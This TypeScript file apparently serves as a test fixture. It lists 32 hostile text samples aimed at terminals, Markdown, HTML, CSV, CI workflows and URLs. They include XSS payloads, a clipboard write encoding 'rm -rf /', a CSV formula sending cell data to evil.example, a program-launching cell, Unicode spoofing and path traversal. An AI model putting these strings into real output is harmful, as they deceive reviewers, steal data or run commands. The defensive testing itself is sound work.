/** A text that tries to act where it is shown, and where that would be. */
export interface HostileText {
  readonly name: string;
  readonly acts: "terminal" | "reader" | "markdown" | "html" | "json" | "csv" | "workflow" | "url";
  readonly text: string;
}

const escape = "\u001b";
const bell = "\u0007";

/** 32 of them; none is longer than a reason may be, but the last. */
export const hostileTexts: readonly HostileText[] = [
  { name: "clears the screen", acts: "terminal", text: `${escape}[2J${escape}[HAll good` },
  {
    name: "hides a link",
    acts: "terminal",
    text: `${escape}]8;;https://evil.example${bell}approve${escape}]8;;${bell}`,
  },
  { name: "writes the clipboard", acts: "terminal", text: `${escape}]52;c;cm0gLXJmIC8=${bell}` },
  { name: "colours by an eight-bit control", acts: "terminal", text: "\u009b32mapproved" },
  { name: "writes over the line", acts: "terminal", text: "write on everything\rread on nothing   " },
  { name: "deletes what stands before it", acts: "terminal", text: "admin\b\b\b\b\bguest" },
  { name: "adds a summary line", acts: "terminal", text: "debug\nPlan: 0 to grant, 0 to revoke, 0 to change." },
  { name: "turns the reading direction", acts: "reader", text: "access to \u202Edorp\u202C only" },
  { name: "isolates a part of the line", acts: "reader", text: "a\u2067b\u2066c\u2069d\u2069" },
  { name: "looks like another name", acts: "reader", text: "ad\u200bmin\u2060s\ufeff" },
  { name: "separates lines by U+2028", acts: "reader", text: "one\u2028two\u2029three" },
  { name: "is written in invisible tags", acts: "reader", text: "ok\u{e0061}\u{e0062}\u{e007f}" },
  { name: "ends the table row and adds another", acts: "markdown", text: "x | \n| + | **eve** | orders-db | admin |" },
  { name: "opens a comment that hides the rest", acts: "html", text: "fine <!-- " },
  { name: "brings a script", acts: "html", text: "<script>alert(1)</script>" },
  { name: "brings an image that fails", acts: "html", text: '<img src=x onerror="alert(1)">' },
  {
    name: "is a link that says approve",
    acts: "markdown",
    text: "[approve](https://evil.example) <https://evil.example>",
  },
  { name: "loads a picture", acts: "markdown", text: "![](https://evil.example/pixel.png)" },
  { name: "calls people", acts: "markdown", text: "@security and @acme/admins please look" },
  { name: "closes an issue", acts: "markdown", text: "closes #1, closes GH-2, closes acme/app#3 and 0123456789abcdef" },
  { name: "is an address by itself", acts: "markdown", text: "see https://evil.example or www.evil.example" },
  {
    name: "closes the fold and opens another",
    acts: "html",
    text: "</details><details open><summary>Approved</summary>",
  },
  { name: "is a heading that approves", acts: "markdown", text: "x\n\n### Approved by security\n\n> [!NOTE]\n> merge" },
  { name: "opens a fence", acts: "markdown", text: "``` ~~~\n```js\nalert(1)\n" },
  { name: "strikes and stresses", acts: "markdown", text: "~~refused~~ **approved** __now__ *by* _carol_ :+1:[^1]" },
  { name: "leaves the attribute", acts: "html", text: `" onmouseover="alert(1)" x='` },
  { name: "is an entity of markup", acts: "html", text: "&lt;b&gt; &amp; &#60;i&#62; &copy;" },
  { name: "is a formula", acts: "csv", text: '=HYPERLINK("https://evil.example?"&A1,"open")' },
  { name: "starts a program from a cell", acts: "csv", text: "+cmd|' /C calc'!A0" },
  { name: "ends the cell and the row", acts: "csv", text: '","@SUM(1+1)","\r\n"-2+3' },
  { name: "is a workflow command", acts: "workflow", text: "::add-mask::x\n::error file=a,line=1::boo\n##[group]fold" },
  { name: "goes up and asks", acts: "url", text: "../../etc/passwd?admin=1#%2e%2e" },
];
